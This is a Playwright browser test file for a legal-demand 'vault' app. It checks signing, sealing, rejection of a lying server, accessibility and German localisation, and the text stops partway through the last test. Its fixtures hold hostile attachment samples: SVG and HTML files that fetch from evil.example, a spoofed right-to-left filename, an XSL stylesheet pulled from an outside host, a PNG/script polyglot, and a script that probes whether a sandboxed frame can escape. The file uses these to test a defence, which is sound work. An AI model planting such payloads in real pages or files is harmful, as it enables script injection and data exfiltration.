"""The vault in a real browser, at the real interface: open, confirm, sign, letter, note; lies; hostile attachments."""

from __future__ import annotations

import base64
import contextlib
import json
import os
import re
import sqlite3
from collections.abc import Iterator
from email.message import EmailMessage
from pathlib import Path
from typing import Any

import pytest

import filled_face
import pdf_samples
import several_ways
import warm
from accessibility import faults_of, violations
from browser_desk import Client, Practice, Vault, typist
from drawn_letters import drawn
from dueprocess.adapters import identity, scan_models
from dueprocess.case.basis import basis_of
from dueprocess.formats import page_images

pytestmark = [pytest.mark.browser, pytest.mark.slow]

DEMAND = Path(__file__).resolve().parents[2] / "lab" / "dueprocess_lab" / "story" / "demands" / "02-no-provision.eml"
ANOTHER = DEMAND.with_name("01-subscriber-talbach.eml")
SAMPLES = Path(__file__).resolve().parents[1] / "golden" / "demands"
PDF = SAMPLES / "us-pdf-subpoena.pdf"
HOSTILE = {
    "annex\u202egpj.svg": b"<svg xmlns='http://www.w3.org/2000/svg' onload=\"fetch('https://evil.example/?svg')\">"
    b"<image href='https://evil.example/pixel.png'/></svg>",
    "order.html": b"<html><script>fetch('https://evil.example/?html')</script><img src='https://evil.example/x'>"
    b"<meta http-equiv=refresh content='0;url=https://evil.example/'></html>",
    "order.xml": b"<?xml version='1.0'?><?xml-stylesheet type='text/xsl' href='https://evil.example/x.xsl'?><order/>",
}
POLYGLOT = (
    base64.b64decode("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==")
    + b"<script>alert(1)</script>"
)
REACH = """async () => {
  const tried = {origin: window.origin};
  for (const [name, act] of Object.entries({
    storage: () => localStorage.length,
    parent: () => parent.document.title,
    fetched: () => fetch("config.json"),
    other: () => fetch("https://evil.example/"),
    markup: () => { document.body.innerHTML = "<img src=x onerror='parent.ran = 1'>"; },
  })) { try { await act(); tried[name] = "reached"; } catch { tried[name] = "refused"; } }
  return tried;
}"""


def paged() -> dict[str, bytes]:
    """PDF and TIFF files as they come, and as they come from somebody hostile."""
    mail = EmailMessage()
    mail["From"], mail["Subject"] = "Amtsgericht Talbach <poststelle@ag-talbach.example>", "Beschluss"
    mail.set_content("Sehr geehrte Damen und Herren, siehe Anlage.")
    fax = (pdf_samples.FAXES / "fax-g4.tif").read_bytes()
    scan = pdf_samples.scanned(colour=True)
    mail.add_attachment(scan, maintype="application", subtype="pdf", filename="Beschluss.pdf")
    mail.add_attachment(fax, maintype="image", subtype="tiff", filename="fax.tif")
    return {
        "scan.eml": mail.as_bytes(),
        "fax-g4.tif": fax,
        "scan.pdf": pdf_samples.scanned(3),
        "words.pdf": drawn((SAMPLES / "de-stpo-100j-police.txt").read_text(), "de"),
        "many.pdf": pdf_samples.text(*["Seite"] * 43),
        "acting.pdf": pdf_samples.acting(),
        "stamped.pdf": pdf_samples.stamped(),
        "locked.pdf": pdf_samples.locked(),
        "endless.pdf": pdf_samples.endless(),
        "blank.pdf": pdf_samples.huge_picture(),
    }


@pytest.fixture(scope="module")
def context(chromium: Any) -> Iterator[Any]:
    made = chromium.new_context(viewport={"width": 1280, "height": 900})
    yield made
    made.close()


@pytest.fixture(scope="module")
def vault(practice: Practice, context: Any) -> Vault:
    made = Vault(practice, context)
    made.unlock("birch")
    return made


@pytest.fixture(scope="module")
def taken(practice: Practice, tmp_path_factory: pytest.TempPathFactory) -> dict[str, str]:
    """Cases by file, taken in while the desk is served: a demand of the story, and hostile ones."""
    folder = tmp_path_factory.mktemp("arrived")
    found = {}
    whole = {one.name: one.read_bytes() for one in (DEMAND, ANOTHER, PDF)}
    for name, data in {**whole, **HOSTILE, **paged(), "scan.png": POLYGLOT}.items():
        (folder / name).write_bytes(data)
    environ = {**os.environ, "DUEPROCESS_HOME": str(practice.home), "HOME": str(practice.home.parent)}
    files = sorted(folder.iterdir())
    ran = warm.run([warm.COMMAND, "intake", *files, "--json"], env=environ, capture_output=True, text=True, check=True)
    for file, line in zip(files, ran.stdout.splitlines(), strict=True):
        found[file.name] = str(json.loads(line)["case"])
    return found


@pytest.fixture(scope="module")
def case(taken: dict[str, str]) -> str:
    """A demand of the story, new: everything in it is claimed and nothing confirmed."""
    return taken[DEMAND.name]


def test_a_stranger_gets_no_session_and_a_wrong_file_says_what_to_do(practice: Practice, chromium: Any) -> None:
    context = chromium.new_context()
    window = Vault(practice, context)
    window.go("/", "#identity")
    window.tab.set_input_files("#identity", {"name": "x", "mimeType": "text/plain", "buffer": b"nothing"})
    window.tab.press("#passphrase", "Enter")
    window.tab.wait_for_selector(".problem")
    assert "age.header" in window.tab.inner_text(".problem")
    window.tab.set_input_files("#identity", window.file_of("offline-recovery"))
    window.tab.press("#passphrase", "Enter")
    window.tab.click("text=It is the same")
    window.tab.wait_for_selector(".problem:has-text('does not open a session')")
    assert window.tab.evaluate("localStorage.length") == 0
    context.close()


def test_a_new_identity_is_made_here_and_opens_at_the_desk(practice: Practice, chromium: Any, tmp_path: Path) -> None:
    context = chromium.new_context(accept_downloads=True)
    window = Vault(practice, context)
    window.go("/", "#identity")
    window.tab.click("text=Make a new identity")
    window.tab.fill("#new-name", "dogrose")
    window.tab.fill("#new-pass", "four random words")
    window.tab.fill("#new-pass-again", "four random words")
    window.tab.press("#new-pass-again", "Enter")
    card = window.tab.wait_for_selector("#card", timeout=60_000).input_value()
    with window.tab.expect_download() as loaded:
        window.tab.click("text=Save dogrose.daily.identity")
    file = tmp_path / "dogrose.daily.identity"
    loaded.value.save_as(file)
    file.chmod(0o600)
    made = identity.load(file, "four random words")
    assert (made.card().text(), made.own_seed) == (card, b"")  # a page that the desk serves makes no own key
    assert not [url for url in window.asked if practice.at("api", "") in url]
    context.close()


def test_the_page_that_the_desk_serves_takes_no_own_key(practice: Practice, chromium: Any, tmp_path: Path) -> None:
    """A desk that lies for a day took the releasing key of whoever unlocked there (finding F4, hazard 10.1)."""
    context = chromium.new_context()
    window = Vault(practice, context)
    window.go("/", "#identity")
    both = several_ways.write(tmp_path / "birch.identity", identity.load(practice.keys / "birch.identity", None), [])
    for file, typed in ((practice.keys / "birch.identity", ""), (both, several_ways.WORDS)):
        window.tab.set_input_files("#identity", file)
        window.tab.fill("#passphrase", typed)
        window.tab.press("#passphrase", "Enter")
        window.tab.wait_for_selector(".problem:has-text('holds your own key')")
    assert not [url for url in window.asked if practice.at("api", "") in url]
    context.close()


def test_open_confirm_and_sign(vault: Vault, case: str) -> None:
    vault.go(f"/case/{case}", ".face")
    frame = vault.frame()
    frame.wait_for_selector(".line")
    assert "Moorau" in frame.inner_text("body")
    where = vault.tab.locator("button:text-is('where')").first
    where.press("Enter")
    frame.wait_for_selector("mark")
    vault.tick("country")
    vault.tab.locator(".sticky button.act").press("Enter")
    vault.tab.wait_for_selector("#sign-title")
    said = vault.tab.inner_text(".signing")
    assert "Confirm facts that you read in the original" in said
    assert "Country of the authority" in said
    text = vault.tab.locator(".exact pre").text_content()
    acts = {one["act"]: one for one in json.loads(text.split("\n")[1])["acts"]}
    assert acts.keys() - {"case.key"} == {"face.confirm"}  # the first look at a case draws the house's key beside it
    act = acts["face.confirm"]
    assert act["says"]["fields"].keys() == {"authority", "authority_kind", "country"}  # the sentence, and no other one
    vault.tab.locator(".buttons .act").press("Enter")
    vault.tab.wait_for_selector(".done h1")
    assert vault.faults == []


OTHER = "c-" + "z" * 24
LIES: dict[str, tuple[dict[str, Any], str]] = {
    "another case": ({"case": OTHER}, "counter.form"),
    "facts of another case": ({"relied": {"case": OTHER}}, "counter.form"),
    "another roster": ({"roster": 7}, "vault.other-roster"),
    "another contact": ({"contact": "post@elsewhere.example"}, "authority.unverified"),
    "an older revision": ({"revision": 1}, "release.older-than-seen"),
}


@pytest.mark.parametrize("lie", sorted(LIES))
def test_a_desk_that_shows_something_else_gets_no_signature(practice: Practice, vault: Vault, lie: str) -> None:
    case = corrected(practice)  # people signed facts and a decision of it
    changes, rule = LIES[lie]

    def answer(route: Any) -> None:
        got = route.fetch()
        body = got.json()
        relied = {**body["relied"], **changes.get("relied", {})}
        route.fulfill(response=got, json={**body, **changes, "relied": relied})

    vault.tab.route("**/evidence", answer)
    vault.asked.clear()
    try:
        vault.go("/", ".cases")
        vault.go(f"/case/{case}", ".problem")  # before anything of the case is shown
        assert rule in vault.tab.inner_text(".problem")
        assert not [url for url in vault.asked if url.endswith("/v1/acts")]
    finally:
        vault.tab.unroute("**/evidence")


def test_facts_that_a_desk_swaps_are_shown_and_their_hash_is_the_one_that_is_signed(vault: Vault, case: str) -> None:
    def answer(route: Any) -> None:
        got = route.fetch()
        body = got.json()
        body["relied"]["face"]["items"][0]["data"] = ["content"]
        told.append(body["relied"])
        route.fulfill(response=got, json=body)

    told: list[dict[str, Any]] = []
    vault.tab.route("**/evidence", answer)
    try:
        vault.go("/", ".cases")
        vault.go(f"/act/{case}/gate.answer?item=1", ".questions")
        vault.tab.check("input[name=question][value=count]")
        vault.tab.check("input[name=answer][value=yes]")
        vault.tab.click("text=Show what I sign")
        vault.tab.wait_for_selector("#sign-title")
        vault.tab.click(".relied summary")
        assert "content" in vault.tab.inner_text(".relied")
        signed = json.loads(vault.tab.text_content(".exact pre").split("\n")[1])
        assert [1, basis_of(told[-1], 1)] in signed["basis"]
        assert all(basis == basis_of(told[-1], item) for item, basis in signed["basis"])  # a key that it draws, too
    finally:
        vault.tab.unroute("**/evidence")


def corrected(practice: Practice) -> str:
    """The story's German case that was returned for correction: its authority is verified, a letter is due."""
    with contextlib.closing(sqlite3.connect(f"file:{practice.home}/desk.sqlite3?mode=ro", uri=True)) as store:
        asked = (
            "SELECT c.id FROM data_case c JOIN data_item i ON i.case_id = c.id WHERE c.country = ? AND i.outcome = ?"
        )
        return str(store.execute(asked, ("DE", "correct")).fetchone()[0])


def test_the_second_person_sees_what_the_first_one_signed(
    practice: Practice, vault: Vault, taken: dict[str, str], tmp_path: Path
) -> None:
    case = taken[ANOTHER.name]  # the other one's facts birch has confirmed: who verified does not approve
    types = typist(practice, tmp_path)  # whoever signs first gives the case its key; birch's page compares
    types("open", case, "--out", str(tmp_path / "read"), by="aster")
    types("classify", case, "new-case", by="aster")
    aster, birch = Client(practice, "aster"), Client(practice, "birch")
    proposal = {"ground": "counsel", "item": 1, "lines": [], "outcome": "refuse"}
    aster.do(case, "decision.propose", proposal)

    def withheld(route: Any) -> None:
        got = route.fetch()
        route.fulfill(response=got, json={**got.json(), "notes": []})

    vault.tab.route("**/evidence", withheld)
    vault.go(f"/case/{case}", ".problem")
    assert "authority.unverified" in vault.tab.inner_text(".problem")  # what nobody signed first
    vault.tab.unroute("**/evidence")

    def another(route: Any) -> None:
        got = route.fetch()
        route.fulfill(response=got, json={**got.json(), "filled": {"proposal": "a" * 64}})

    vault.tab.route("**/acts/decision.approve*", another)
    vault.go("/", ".cases")
    vault.go(f"/case/{case}", ".problem")
    assert "release.unsigned" in vault.tab.inner_text(".problem")
    vault.tab.unroute("**/acts/decision.approve*")
    vault.go("/", ".cases")
    vault.go(f"/case/{case}", "#sign-title")  # a refusal asks no blanks; the original stands beside it
    assert "You had every document open" in vault.tab.inner_text(".side")
    assert vault.frame().wait_for_selector(".line")
    said = vault.tab.inner_text(".signing .proposal")
    assert "What aster proposed and signed" in said
    assert "Propose a decision: refused outside such grounds" in said
    assert "counsel" in said
    vault.tab.locator(".signing .buttons .act").press("Enter")
    vault.tab.wait_for_selector(".done h1")
    decided = next(one for one in birch.send("GET", f"/v1/cases/{case}")["items"] if one["item"] == 1)
    assert decided["outcome"] == "refuse"


def test_what_is_missing_is_said_beside_its_field_and_what_was_entered_is_kept(vault: Vault, case: str) -> None:
    tab = vault.tab
    vault.go(f"/act/{case}/cost.record?item=1", ".questions")
    assert tab.locator("input[name=units]").is_hidden()  # no position is named
    tab.fill("input[name=minutes]", "100001")
    tab.press("input[name=minutes]", "Enter")
    tab.wait_for_selector(".fault:has-text('A number from 0 to 100000.')")
    field = tab.locator("input[name=minutes]")
    assert field.get_attribute("aria-invalid") == "true"
    assert tab.locator(f"#{field.get_attribute('aria-describedby')}").inner_text() == "A number from 0 to 100000."
    assert "Minutes worked" in tab.inner_text(".problem")  # the summary has the focus, and names the field
    field.fill("0")
    field.press("Enter")
    tab.wait_for_selector(".problem:has-text('A cost is minutes')")  # the desk's own rule, before anything is signed
    assert tab.locator(".fault").count() == 0
    assert field.input_value() == "0"


def test_a_letter_is_merged_sealed_and_signed_here(practice: Practice, vault: Vault) -> None:
    case = corrected(practice)
    vault.go(f"/letter/{case}", ".sheet")
    reference = vault.tab.input_value("input[id^=reference]")
    assert reference in vault.tab.inner_text(".sheet >> nth=0")
    vault.tab.fill("input[id^=reference]", "3 Js 99/26")
    assert "3 Js 99/26" in vault.tab.inner_text(".sheet >> nth=0")
    sent: list[str] = []
    vault.tab.on("request", lambda request: sent.append(request.post_data or ""))
    vault.tab.locator(".card .act").press("Enter")
    vault.tab.wait_for_selector("#sign-title")
    assert "encrypted for the service that sends letters" in vault.tab.inner_text(".signing")
    vault.tab.locator(".buttons .act").press("Enter")
    vault.tab.wait_for_selector(".done h1")
    assert not [body for body in sent if "3 Js" in body]
    acts = [json.loads(body) for body in sent if "attached" in body]
    assert len(acts) == 1
    assert acts[0]["attached"][0]["reader"] == "worker"


def test_a_note_is_sealed_before_it_leaves(vault: Vault, case: str) -> None:
    sent: list[str] = []
    vault.tab.on("request", lambda request: sent.append(request.post_data or ""))
    vault.go(f"/note/{case}", "textarea")
    vault.tab.fill("#note", "Frau Quendel rief an; sie nennt das Konto linde@fennelmail.example.")
    vault.tab.locator(".card .act").press("Enter")
    vault.tab.wait_for_selector(".noted")
    vault.tab.locator(".buttons .act").press("Enter")
    vault.tab.wait_for_selector(".done h1")
    assert not [body for body in sent if "Quendel" in body or "linde" in body]
    vault.go(f"/case/{case}", ".face")
    vault.tab.click("button:text-is('Note')")
    frame = vault.frame()
    frame.wait_for_selector("text=Frau Quendel")


@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_hostile_attachments_are_text_and_reach_nothing(vault: Vault, taken: dict[str, str], name: str) -> None:
    vault.asked.clear()
    vault.go(f"/case/{taken[name]}", ".face")
    frame = vault.frame()
    frame.wait_for_selector(".line")
    assert "Source text of" in frame.inner_text("body")
    assert "evil[.]example" in frame.inner_text("body")
    assert "\u202e" not in vault.tab.inner_text(".file-name")
    reached = frame.evaluate(REACH)
    assert reached == {"origin": "null"} | dict.fromkeys(("storage", "parent", "fetched", "other", "markup"), "refused")
    ours = (vault.practice.at("vault", ""), vault.practice.at("api", ""))
    assert not [url for url in vault.asked if not url.startswith((*ours, "data:"))]


def test_a_picture_is_drawn_anew(vault: Vault, taken: dict[str, str]) -> None:
    vault.go(f"/case/{taken['scan.png']}", ".face")
    frame = vault.frame()
    frame.wait_for_selector("canvas")


def sheet(vault: Vault, at: int) -> Any:
    """The frame, once page ``at`` of those that were drawn stands on its canvas."""
    frame = vault.frame()
    frame.wait_for_selector(f"canvas[data-page='{at}']")
    return frame


def ink(frame: Any) -> int:
    """Dark points on the canvas: white paper has none."""
    return int(
        frame.evaluate(
            "() => { const c = document.querySelector('canvas');"
            " const d = c.getContext('2d').getImageData(0, 0, c.width, c.height).data;"
            " let n = 0; for (let i = 0; i < d.length; i += 4) if (d[i] < 128) n += 1; return n; }"
        )
    )


def test_a_pdf_shows_its_text_and_its_pages_one_toggle_away(vault: Vault, taken: dict[str, str]) -> None:
    vault.go(f"/case/{taken[PDF.name]}", ".face")
    frame = vault.frame()
    frame.wait_for_selector(".line")
    assert "subpoena" in frame.inner_text("body").lower()
    assert "can differ" in vault.tab.inner_text(".about")
    vault.tab.click("button:text-is('Pages')")
    frame = sheet(vault, 1)
    assert "The text that was read holds its words" in frame.get_attribute("canvas", "aria-label")
    assert ink(frame) > 1000
    assert vault.tab.query_selector(".saving button") is None
    vault.tab.locator("button:text-is('where')").first.press("Enter")  # places stand in the text
    frame.wait_for_selector("mark")
    vault.tab.click("button:text-is('Original')")
    frame.wait_for_selector("text=It is not shown here")


def test_a_scan_is_read_by_eye_and_the_form_is_filled_by_hand(vault: Vault, taken: dict[str, str]) -> None:
    vault.go(f"/case/{taken['scan.pdf']}", ".face")
    frame = sheet(vault, 1)
    assert ink(frame) > 10_000
    assert "A scan: these pages hold no text." in vault.tab.inner_text(".about")
    assert vault.tab.inner_text(".file-name") == "scan.pdf"
    assert "No machine read this" in vault.tab.inner_text(".side")
    assert frame.get_attribute("canvas", "aria-label").startswith("Page 1 of 3, as a picture. It holds no text")
    filled_face.tick(vault.tab, "country")
    filled_face.say(vault.tab, "country", "DE")
    assert not filled_face.sentence(vault.tab, "country").locator("> .tick input").is_checked()  # it says another thing
    vault.tick("country")
    vault.tab.locator(".sticky button.act").press("Enter")
    vault.tab.wait_for_selector("#sign-title")
    assert sheet(vault, 1)  # still beside it while the person signs
    vault.tab.locator(".buttons .act").press("Enter")
    vault.tab.wait_for_selector(".done h1")
    assert vault.faults == []


@pytest.mark.skipif(bool(scan_models.missing()), reason="no Tesseract: .ci/system-packages names it")
def test_what_a_machine_read_in_pictures_is_said_beside_them(vault: Vault, taken: dict[str, str]) -> None:
    vault.go(f"/case/{taken['words.pdf']}", ".face")
    sheet(vault, 1)  # the picture first: it is what the person reads
    assert "A machine read this: no number, account, date or amount was taken." in vault.tab.inner_text(".about")
    vault.tab.click("button:text-is('Text that was read')")
    frame = vault.frame()
    frame.wait_for_selector(".line")
    assert "Bestandsdaten" in frame.inner_text("body")
    assert "Page 1: Latin, 200 dpi" in frame.inner_text("body")
    mark_all = "() => { getSelection().selectAllChildren(document.body); }"
    take = vault.tab.locator("button:text-is('Take what I marked in the original')").first
    frame.evaluate(mark_all)
    vault.tab.wait_for_timeout(300)
    assert take.is_disabled()  # an account is typed from the picture, not taken from what a machine saw
    assert "A machine read this" in vault.tab.inner_text(".about")
    told = vault.tab.text_content(".particulars")
    assert "Authority" in told
    assert not [one for one in ("T1", "Their reference", "Until", "Law named") if one in told]
    assert vault.faults == []


def test_pages_by_button_by_list_and_by_key_larger_and_smaller(vault: Vault, taken: dict[str, str]) -> None:
    vault.go(f"/case/{taken['scan.pdf']}", ".face")
    frame = sheet(vault, 1)
    assert frame.is_disabled("[aria-label='Previous page']")
    frame.press("[aria-label='Next page']", "Enter")
    sheet(vault, 2)
    assert frame.inner_text("[role=status]") == "Page 2 of 3"
    frame.select_option("select", "2")
    sheet(vault, 3)
    assert frame.is_disabled("[aria-label='Next page']")
    frame.press(".sheet", "ArrowLeft")
    sheet(vault, 2)
    frame.evaluate("scrollTo(0, 1e6)")
    frame.press(".sheet", "PageDown")
    sheet(vault, 3)
    assert frame.evaluate("scrollY") == 0
    frame.press(".sheet", "PageUp")
    sheet(vault, 2)
    narrow = frame.evaluate("document.querySelector('canvas').clientWidth")
    for key in ("+", "+"):
        frame.press(".sheet", key)
    assert frame.evaluate("document.querySelector('canvas').clientWidth") >= 1.4 * narrow
    assert frame.evaluate("document.documentElement.scrollWidth <= innerWidth")  # the page scrolls, not the tools
    frame.press(".sheet", "ArrowRight")  # moves what is larger than its place; no page is turned
    assert frame.inner_text("[role=status]") == "Page 2 of 3"
    frame.press(".sheet", "0")
    assert frame.evaluate("document.querySelector('canvas').clientWidth") == narrow
    assert frame.is_disabled("[aria-label='Smaller']")


def test_what_was_cut_off_is_said(vault: Vault, taken: dict[str, str]) -> None:
    for name, says in {
        "many.pdf": "Pages 41 to 43 are not drawn; the original has them.",
        "locked.pdf": "It is locked with a password",
        "endless.pdf": "needed more than it may have, or failed",
        "blank.pdf": "Page 1 is not drawn; the original has it.",
    }.items():
        vault.go(f"/case/{taken[name]}", ".face")
        vault.tab.click("button:text-is('Pages')")
        vault.frame().wait_for_selector(f"text={says}")
    assert vault.faults == []


def test_a_fax_and_the_scan_that_a_mail_brings_are_drawn(vault: Vault, taken: dict[str, str]) -> None:
    vault.go(f"/case/{taken['fax-g4.tif']}", ".face")
    assert ink(sheet(vault, 1)) > 1000
    said = "A scan: these pages hold no text." if scan_models.missing() else "A machine read this"
    assert said in vault.tab.inner_text(".about")
    vault.go(f"/case/{taken['scan.eml']}", ".face")
    frame = vault.frame()
    frame.wait_for_selector("text=siehe Anlage")  # the mail first: who writes, and what they say
    assert "Its pages stand beside it as pictures" in frame.inner_text("body")
    vault.tab.click("button:text-is('Pages')")
    frame = sheet(vault, 1)
    assert frame.inner_text("[role=status]") == "Page 1 of 1 of Beschluss.pdf"
    frame.select_option("select", "1")
    sheet(vault, 2)
    assert frame.inner_text("[role=status]") == "Page 1 of 2 of fax.tif"


@pytest.mark.parametrize("name", ["acting.pdf", "stamped.pdf"])
def test_a_pdf_that_would_act_is_a_picture_and_reaches_nothing(vault: Vault, taken: dict[str, str], name: str) -> None:
    vault.asked.clear()
    vault.go(f"/case/{taken[name]}", ".face")
    vault.tab.click("button:text-is('Pages')")
    frame = sheet(vault, 1)
    assert ink(frame) > 300
    frame.click("canvas")
    reached = frame.evaluate(REACH)
    assert reached == {"origin": "null"} | dict.fromkeys(("storage", "parent", "fetched", "other", "markup"), "refused")
    ours = (vault.practice.at("vault", ""), vault.practice.at("api", ""))
    assert not [url for url in vault.asked if not url.startswith((*ours, "data:"))]


def test_pages_that_a_broken_desk_made_are_not_shown_as_pages(vault: Vault, taken: dict[str, str]) -> None:
    vault.go(f"/case/{taken['scan.pdf']}", ".face")
    frame = sheet(vault, 1)
    made = page_images.pack([page_images.File("a.pdf", 1)], [page_images.Page(0, 1, False, b"<svg onload=alert(1)>")])
    vault.tab.evaluate(
        "data => { const f = document.querySelector('iframe').contentWindow;"
        " f.postMessage({pages: Uint8Array.from(data).buffer}, '*'); }",
        list(made),
    )
    frame.wait_for_selector("text=The picture of this page is damaged.")


def test_a_page_that_comes_late_draws_over_nothing(vault: Vault, case: str, taken: dict[str, str]) -> None:
    late, held = taken[ANOTHER.name], []

    def hold(route: Any) -> None:
        held.append(route)

    vault.go("/", ".cases")
    vault.tab.route(f"**/v1/cases/{late}/form", hold)
    vault.tab.evaluate("where => { location.hash = where; }", f"#/case/{late}")
    vault.tab.wait_for_timeout(50)
    while not held:
        vault.tab.wait_for_timeout(20)
    vault.tab.evaluate("where => { location.hash = where; }", f"#/case/{case}")
    vault.tab.wait_for_selector(".lawful")
    for route in held:
        route.continue_()
    vault.tab.unroute(f"**/v1/cases/{late}/form")
    vault.tab.wait_for_timeout(800)
    assert case[:10] in vault.tab.inner_text("h1")
    assert vault.tab.locator(".face").count() == 1


def test_a_part_that_does_not_come_is_said_and_the_rest_goes_on(practice: Practice, chromium: Any) -> None:
    context = chromium.new_context()
    first = Vault(practice, context)
    first.unlock("aster")  # a browser that knows no desk fetches the part in which people compare it
    vault = Vault(practice, context)
    vault.tab.route("**/rare.js", lambda route: route.abort())
    vault.go("/", "#identity")
    vault.tab.set_input_files("#identity", vault.file_of("aster"))
    vault.tab.press("#passphrase", "Enter")
    vault.tab.wait_for_selector(".cases")  # the list stands; what finds a case in it says that it did not come
    vault.tab.wait_for_selector(".problem")
    vault.go("/keys", ".problem")
    assert "This part of the vault did not come" in vault.tab.inner_text(".problem")
    vault.go("/", ".cases")
    context.close()


def test_nothing_is_ordered_or_released_from_the_page_that_the_desk_serves(vault: Vault, case: str) -> None:
    vault.go(f"/release/{case}", ".problem")
    told = vault.tab.inner_text("#main")
    assert "it could show you another production" in told
    assert "On your own machine: dueprocess vault" in told
    assert vault.tab.locator("#main button, #main select").count() == 0
    vault.go(f"/case/{case}", ".face")
    assert vault.tab.locator("a[href^='#/release/']").count() == 0
    assert not any("/finish" in one or "/check" in one for one in vault.asked)


def test_the_desks_page_finds_the_same_window_again(practice: Practice, vault: Vault) -> None:
    desk = vault.context.new_page()
    desk.goto(practice.at("staff", "/login/"))
    address = practice.at("vault", f"/#/case/{practice.cases[2]}")
    desk.evaluate(
        "a => { const l = document.createElement('a'); l.href = a; l.target = 'dueprocess-vault'; l.id = 'way';"
        " l.textContent = 'way'; document.body.append(l); }",
        address,
    )
    with vault.context.expect_page() as opened:
        desk.click("#way")
    window = opened.value
    window.wait_for_selector("#identity")
    count = len(vault.context.pages)
    window.set_input_files("#identity", vault.file_of("birch"))
    window.press("#passphrase", "Enter")
    window.wait_for_selector(".face", timeout=60_000)  # where the link led, once it is unlocked
    desk.evaluate("a => { document.getElementById('way').href = a; }", address.replace("case", "note"))
    desk.click("#way")
    window.wait_for_selector("#note")
    assert len(vault.context.pages) == count
    assert "Unlocked as birch" in window.inner_text(".state")
    window.close()
    desk.close()


DRAFTS = "dueprocess-drafts"
KEPT_DRAFTS = """(name) => new Promise((done, failed) => {
  const asked = indexedDB.open(name);
  asked.onerror = () => failed(asked.error);
  asked.onsuccess = () => {
    const found = asked.result;
    if (!found.objectStoreNames.contains("drafts")) return done([]);
    const store = found.transaction("drafts").objectStore("drafts");
    const [keys, rows] = [store.getAllKeys(), store.getAll()];
    store.transaction.oncomplete = () => {
      found.close();
      done(keys.result.map((key, at) => [key, rows.result[at].day, rows.result[at].data.length]));
    };
  };
})"""


def test_nothing_is_stored_but_the_pin_sealed_drafts_and_marks_and_locking_forgets(vault: Vault) -> None:
    kept = vault.tab.evaluate("JSON.stringify(localStorage)")
    of_cases = ("dueprocess.seen.c-", "dueprocess.mark.", "dueprocess.own.")  # of each case, and of the desk itself
    marks = [value for key, value in json.loads(kept).items() if key.startswith(of_cases[1])]
    assert all(re.fullmatch("[0-9]+ [0-9a-f]{64}", mark) for mark in marks)
    own = [value for key, value in json.loads(kept).items() if key.startswith(of_cases[2])]
    assert all(re.fullmatch("[0-9a-f]{64}(?: [0-9a-f]{64})*", names) for names in own)  # hashes of what one signed
    kept = {key: value for key, value in json.loads(kept).items() if not key.startswith(of_cases)}
    ((key, pin),) = kept.items()
    assert re.fullmatch(r"dueprocess\.pin\.[0-9a-f]{64}", key)
    assert re.fullmatch(r'\{"number":[12],"hash":"[0-9a-f]{64}","base":[12],"since":\[\]\}', pin)
    assert vault.tab.evaluate("sessionStorage.length + document.cookie.length") == 0
    assert set(vault.tab.evaluate("indexedDB.databases().then(all => all.map(one => one.name))")) <= {
        DRAFTS,
        "dueprocess-dockets",
    }
    drafts = vault.tab.evaluate(KEPT_DRAFTS, DRAFTS)  # names, days and lengths: what is in them is sealed
    assert all(re.fullmatch("[0-9a-f]{64}", name) and (length - 28) % 4096 == 0 for name, _, length in drafts)
    assert vault.faults == []
    vault.tab.click(".state button")
    vault.tab.wait_for_selector("#identity")
    assert "Locked" in vault.tab.inner_text(".state")
    assert vault.tab.query_selector(".face") is None


def test_it_locks_itself_when_nobody_touches_it(practice: Practice, chromium: Any) -> None:
    context = chromium.new_context()
    window = Vault(practice, context)
    window.tab.clock.install()
    window.unlock("birch")
    window.tab.clock.fast_forward("09:30")
    assert window.tab.query_selector(".state.open")
    window.tab.clock.fast_forward("01:00")
    window.tab.wait_for_selector("text=Nobody touched it for 10 minutes.")
    assert window.tab.query_selector(".cases") is None
    context.close()


def test_it_speaks_german_where_the_desks_page_does(practice: Practice, chromium: Any, case: str) -> None:
    context = chromium.new_context(locale="en-GB", viewport={"width": 360, "height": 800}, bypass_csp=True)
    german = Vault(practice, context)
    german.go("/?ui=de", "#identity")
    assert german.tab.inner_text("h1") == "Den Tresor aufschließen"
    assert german.tab.get_attribute("html", "lang") == "de"
    german.tab.set_input_files("#identity", german.file_of("birch"))
    german.tab.press("#passphrase", "Enter")
    german.tab.click("text=Er ist derselbe")
    german.tab.wait_for_selector(".cases")
    seen = [german.tab.inner_text("body")]
    german.go(f"/case/{case}", ".face")  # without a word of the language: it stays as it was
    german.frame().wait_for_selector("html[lang=de]", state="attached")
    seen.append(german.tab.inner_text("body"))
    # The frame holds no German of its own: the page handed its words over with the original.
    german.tab.evaluate(
        "document.querySelector('iframe').contentWindow.postMessage({show: new ArrayBuffer(0), name: ''}, '*')"
    )
    german.frame().wait_for_selector("text=Es ist leer.", state="attached")
    german.tick("country")
    german.tab.click("text=Zeigen, was ich unterschreibe")
    german.tab.wait_for_selector("#sign-title")
    assert german.tab.inner_text("#sign-title") == "Angaben bestätigen, die Sie im Original gelesen haben"
    said = german.tab.evaluate(
        "[...document.querySelectorAll('.signing > :not(details)')].map(one => one.innerText).join(' ')"
    )
    seen.append(said)
    for act in ("decision.propose", "gate.answer", "secrecy.record", "item.change", "cost.record", "arrival.classify"):
        german.go(f"/act/{case}/{act}?item=1", ".questions")
        seen.append(german.tab.inner_text("form.card"))
        german.tab.click("text=Zeigen, was ich unterschreibe")
        german.tab.wait_for_selector(".fault, .problem, #sign-title")
        seen.append(german.tab.inner_text("form.card") if german.tab.locator("form.card").count() else "")
    german.go(f"/case/{case}", ".face")
    german.tick("country")
    german.tab.click("text=Zeigen, was ich unterschreibe")
    german.tab.wait_for_selector("#sign-title")
    exact = german.tab.text_content(".exact pre")
    assert '"act":"face.confirm"' in exact
    assert "bestätig" not in exact  # what is signed has no language
    english = re.compile(r"\b(the|and|of|is|are|with|this|that|your|nobody|you|case|item|not)\b")
    # A provision without a German title has its English one and its id; the code of a ground has no language.
    law, code = re.compile(r" \([A-Z]+(-[A-Z0-9]+)+\)$"), re.compile(r"^policy\.[a-z-]+: ")
    lines = [code.sub("", line) for text in seen for line in text.splitlines() if not law.search(line)]
    assert [line for line in lines if english.search(line)] == []
    assert not german.tab.evaluate("document.documentElement.scrollWidth > innerWidth")
    german.go("/?ui=en", ".cases")
    assert german.tab.inner_text("h1") == "The vault is open"
    assert german.faults == []
    context.close()


def test_axe_finds_nothing_and_nothing_runs_out_of_the_page(
    practice: Practice, chromium: Any, taken: dict[str, str]
) -> None:
    case = taken[DEMAND.name]
    context = chromium.new_context(viewport={"width": 1280, "height": 900}, bypass_csp=True)
